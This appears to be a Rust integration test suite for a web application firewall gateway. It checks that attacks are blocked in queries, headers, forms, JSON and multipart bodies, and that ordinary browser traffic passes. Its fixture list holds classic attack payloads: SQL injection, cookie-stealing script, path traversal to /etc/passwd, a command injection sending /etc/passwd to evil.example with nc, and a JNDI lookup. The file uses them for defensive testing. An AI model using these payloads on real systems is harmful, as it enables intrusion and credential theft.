//! Attacks are refused wherever they stand in a request, ordinary traffic is not.

use bytes::Bytes;
use http::Request;
use http_body_util::Full;
use portcullis_tests::{Backend, Client, Gateway, Recorder};
use serde_json::{Value, json};

const ATTACKS: [(&str, &str); 5] = [
    ("SQL injection", "1' UNION SELECT password FROM users--"),
    (
        "cross-site scripting",
        "<script>alert(document.cookie)</script>",
    ),
    ("path traversal", "../../../../etc/passwd"),
    (
        "command injection",
        "; cat /etc/passwd | nc evil.example 4444",
    ),
    ("JNDI look-up", "${jndi:ldap://evil.example/a}"),
];

fn config(backend: std::net::SocketAddr, profile: &str) -> String {
    format!(
        r"
listeners: [{{name: http, protocol: http, address: '127.0.0.1:0'}}]
wafProfiles: [{{name: baseline}}]
backends: [{{name: one, endpoints: [{{address: {backend}}}]}}]
defaults: {{waf: {profile}}}
routes: [{{name: any, rules: [{{backends: [{{name: one}}]}}]}}]
"
    )
}

fn escaped(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => out.push(char::from(byte)),
            _ => out.push_str(&format!("%{byte:02X}")),
        }
        out
    })
}

fn multipart(value: &str) -> String {
    format!(
        "--frontier\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{value}\r\n--frontier--\r\n"
    )
}

/// A value in each place of a request: query, header, form, JSON, multipart.
fn places(value: &str) -> [(&'static str, Request<Full<Bytes>>); 5] {
    let post = |content_type: &str, body: String| {
        Request::post("/comment")
            .header("host", "shop.example")
            .header("user-agent", "Mozilla/5.0")
            .header("accept", "*/*")
            .header("content-type", content_type)
            .body(Full::from(body))
            .expect("a request")
    };
    let get = |path: &str, header: &str| {
        Request::get(path)
            .header("host", "shop.example")
            .header("user-agent", "Mozilla/5.0")
            .header("accept", "*/*")
            .header("x-comment", header)
            .body(Full::default())
            .expect("a request")
    };
    [
        (
            "query",
            get(&format!("/comment?text={}", escaped(value)), ""),
        ),
        ("header", get("/comment", value)),
        (
            "form",
            post(
                "application/x-www-form-urlencoded",
                format!("name=x&text={}", escaped(value)),
            ),
        ),
        (
            "JSON",
            post(
                "application/json",
                json!({ "name": "x", "texts": [{ "deep": value }] }).to_string(),
            ),
        ),
        (
            "multipart",
            post("multipart/form-data; boundary=frontier", multipart(value)),
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn five_classic_attacks_are_refused_wherever_they_stand() {
    let recorder = Recorder::start().await;
    let gateway = Gateway::start(&config(recorder.address, "{profile: baseline}"));
    for (attack, value) in ATTACKS {
        for (place, request) in places(value) {
            let mut client = Client::h1(gateway.http()).await;
            let response = client.send(request).await.expect("an answer");
            assert_eq!(response.status(), 403, "{attack} in {place}");
            let id = response.headers()["x-request-id"].to_str().expect("text");
            let line = gateway.access_line(id);
            assert_eq!(
                (&line["refusedBy"], &line["waf"]),
                (&json!("waf"), &json!("blocked")),
                "{attack} in {place}"
            );
        }
    }
    assert_eq!(recorder.connections(), 0, "no attack reached the backend");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_same_places_with_ordinary_words_pass() {
    let backend = Backend::start("one").await;
    let gateway = Gateway::start(&config(backend.address, "{profile: baseline}"));
    for value in [
        "Please select a plan from the list, and union members drop by at 5;",
        "it's 5 > 3 && 2 < 4 - O'Brien's café (100%)",
        "see ../docs and a/b/../c, or mail me: x@shop.example",
        "price: $5; cat food; <3 you",
    ] {
        for (place, request) in places(value) {
            let mut client = Client::h1(gateway.http()).await;
            let response = client.send(request).await;
            // A header value is ASCII in this client.
            let Ok(response) = response else { continue };
            assert_eq!(response.status(), 200, "{value} in {place}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_ordinary_browser_traffic_passes() {
    let backend = Backend::start("one").await;
    let gateway = Gateway::start(&config(backend.address, "{profile: baseline}"));
    let mut client = Client::h1(gateway.http()).await;
    let browser = |request: http::request::Builder| {
        request
            .header("host", "shop.example")
            .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
            .header("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
            .header("accept-language", "en-US,en;q=0.5")
            .header("accept-encoding", "gzip, deflate, br, zstd")
            .header("referer", "https://shop.example/search?q=a+b&page=2")
            .header("cookie", "_ga=GA1.1.85.17; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln; pref={\"theme\":\"dark\"}")
            .header("sec-fetch-mode", "navigate")
            .header("sec-fetch-site", "same-origin")
            .header("upgrade-insecure-requests", "1")
    };
    for path in [
        "/",
        "/assets/app.3f9a1c2b.js",
        "/assets/style.css?v=1.2.3",
        "/search?q=select+a+plan+from+the+list&sort=name%7Cdesc&filter%5Bcolor%5D%5B%5D=red",
        "/products/o%27brien-shirt?utm_source=news&utm_campaign=fall%20sale%2050%25",
        "/api/items?ids=1,2,3&range=10..20&since=2026-01-01T00:00:00%2B01:00",
        "/favicon.ico",
    ] {
        let request = browser(Request::get(path)).body(Full::default());
        let response = client
            .send(request.expect("a request"))
            .await
            .expect("an answer");
        assert_eq!(response.status(), 200, "{path}");
    }
    for (content_type, body) in [
        (
            "application/x-www-form-urlencoded",
            "email=ann%40shop.example&password=p%40ss%27w0rd%21%3D%3D&note=It%27s+5+%3E+3+%26+more",
        ),
        (
            "application/json",
            r#"{"cart":[{"sku":"A-1","qty":2,"note":"gift; no <b>bold</b> price"}],"total":12.50,"ok":true,"coupon":null}"#,
        ),
        (
            "multipart/form-data; boundary=frontier",
            "--frontier\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report (final).pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 stuff\r\n--frontier--\r\n",
        ),
        ("text/plain", "ping"),
    ] {
        let request = browser(Request::post("/submit"))
            .header("content-type", content_type)
            .body(Full::from(body));
        let response = client
            .send(request.expect("a request"))
            .await
            .expect("an answer");
        assert_eq!(response.status(), 200, "{content_type}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn detection_lets_pass_and_tells() {
    let backend = Backend::start("one").await;
    let gateway = Gateway::start(&config(
        backend.address,
        "{profile: baseline, mode: detect}",
    ));
    let mut client = Client::h1(gateway.http()).await;
    for (attack, value) in ATTACKS {
        for (place, request) in places(value) {
            let response = client.send(request).await.expect("an answer");
            assert_eq!(response.status(), 200, "{attack} in {place}");
            let id = response.headers()["x-request-id"].to_str().expect("text");
            assert_eq!(gateway.access_line(id)["waf"], "detected");
            let (status, records) = gateway.admin(&format!("/audit/{id}"));
            assert_eq!(status, 200, "{attack} in {place}");
            assert!(records.contains("wouldInterrupt"), "{records}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_audit_tells_which_rule_matched_what() {
    let recorder = Recorder::start().await;
    let gateway = Gateway::start(&config(recorder.address, "{profile: baseline}"));
    let mut client = Client::h1(gateway.http()).await;
    let [_, _, (_, form), ..] = places(ATTACKS[0].1);
    let response = client.send(form).await.expect("an answer");
    let id = response.headers()["x-request-id"].to_str().expect("text");
    portcullis_tests::wait_for("the audit line", || {
        gateway
            .audit_lines()
            .iter()
            .any(|line| line["requestId"] == id)
    });
    let (status, found) = gateway.admin(&format!("/audit/{id}"));
    assert_eq!(status, 200);
    let found: Value = serde_json::from_str(&found).expect("JSON");
    let line = gateway
        .audit_lines()
        .into_iter()
        .find(|line| line["requestId"] == id)
        .expect("waited for");
    assert_eq!(found[0], line, "look-up and line are one");
    assert_eq!(line["kind"], "waf");
    assert_eq!(line["profile"], "baseline");
    let matches = line["waf"]["matches"].as_array().expect("matches");
    assert!(
        matches.iter().any(|found| {
            found["rule"]
                .as_u64()
                .is_some_and(|rule| (9_100_000..9_110_000).contains(&rule))
                && found.to_string().contains("ARGS:text")
                && found.to_string().contains("UNION SELECT")
        }),
        "{line:#}"
    );
    assert_eq!(gateway.admin("/audit/unknown").0, 404);
    let blocked = r#"portcullis_waf_verdicts_total{profile="baseline",verdict="blocked"}"#;
    assert_eq!(gateway.metric(blocked), Some(1.0));
}

#[tokio::test(flavor = "multi_thread")]
async fn own_rules_stand_beside_the_baseline() {
    let backend = Backend::start("one").await;
    let folder = tempfile::tempdir().expect("a temporary folder");
    std::fs::write(
        folder.path().join("own.conf"),
        "SecRule REQUEST_HEADERS:X-Team \"@streq red\" \\\n  \"id:10001,phase:1,deny,status:418,msg:'not the red team'\"\nInclude more.conf\n",
    )
    .expect("writable");
    let more = |status: u16| {
        format!(
            "SecRule REQUEST_URI \"@beginsWith /secret\" \"id:10002,phase:1,deny,status:{status}\"\n"
        )
    };
    std::fs::write(folder.path().join("more.conf"), more(404)).expect("writable");
    let yaml = config(backend.address, "{profile: own}").replace(
        "wafProfiles: [",
        "wafProfiles: [{name: own, rules: [{file: own.conf}, {builtin: baseline}]}, ",
    );
    let gateway = Gateway::start_in(folder, &yaml, &[]);
    let mut client = Client::h1(gateway.http()).await;
    let request = Request::get("/")
        .header("host", "shop.example")
        .header("x-team", "red")
        .body(Full::default())
        .expect("a request");
    assert_eq!(client.send(request).await.expect("an answer").status(), 418);
    let status = async |path: &str| {
        let mut client = Client::h1(gateway.http()).await;
        client
            .get("shop.example", path)
            .await
            .expect("an answer")
            .status()
            .as_u16()
    };
    assert_eq!(status("/secret").await, 404);
    assert_eq!(status("/").await, 200);
    // An included file is part of the configuration: its change is a reload.
    let before = gateway
        .metric("portcullis_config_snapshot")
        .expect("a version");
    std::fs::write(gateway.folder().join("more.conf"), more(410)).expect("writable");
    portcullis_tests::wait_for("the reload", || {
        gateway
            .metric("portcullis_config_snapshot")
            .is_some_and(|now| now > before)
    });
    assert_eq!(status("/secret").await, 410);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_about_a_path_sees_the_path_that_the_backend_gets() {
    let backend = Backend::start("one").await;
    let rule = r#"SecRule REQUEST_URI "@beginsWith /internal" "id:10003,phase:1,deny,status:418""#;
    let raw_rule =
        r#"SecRule REQUEST_URI_RAW "@contains /spelled/../" "id:10004,phase:1,deny,status:410""#;
    let yaml = config(backend.address, "{profile: own}").replace(
        "wafProfiles: [",
        &format!(
            "wafProfiles: [{{name: own, rules: [{{inline: '{rule}'}}, {{inline: '{raw_rule}'}}]}}, "
        ),
    );
    let gateway = Gateway::start(&yaml);
    for (target, status) in [
        ("/internal/x", 418),
        ("//internal/x", 418),
        ("/./internal/x", 418),
        ("/a/../internal/x?q=1", 418),
        ("/a/%2e%2e/internal", 418),
        ("http://any.example//internal/x", 418),
        // What was sent is there too, for rules that look for it.
        ("/spelled/../x", 410),
        ("/internals/../x", 200),
    ] {
        let request =
            format!("GET {target} HTTP/1.1\r\nHost: any.example\r\nConnection: close\r\n\r\n");
        let answer = portcullis_tests::raw(gateway.http(), request.as_bytes());
        assert_eq!(
            portcullis_tests::status_of(&answer),
            status,
            "{target}: {answer}"
        );
    }
    assert_eq!(backend.last().target, "/x");
}

#[tokio::test(flavor = "multi_thread")]
async fn only_grpc_itself_streams_past_the_inspection_of_bodies() {
    let backend = Backend::start("one").await;
    let yaml = config(backend.address, "{profile: baseline}").replace(
        "{name: one, endpoints",
        "{name: one, protocol: http2, endpoints",
    );
    let gateway = Gateway::start(&yaml);
    for (content_type, status) in [
        ("application/grpcx", 403),
        ("application/grpc-web", 403),
        ("application/json", 403),
    ] {
        let mut client = portcullis_tests::h2c(gateway.http()).await;
        let request = Request::post(client.uri("any.example", "/"))
            .header("content-type", content_type)
            .body(Full::from(
                r#"{"q":"1 UNION SELECT password FROM users--"}"#,
            ))
            .expect("a request");
        let answer = client.send(request).await.expect("an answer");
        assert_eq!(answer.status(), status, "{content_type}");
    }
}
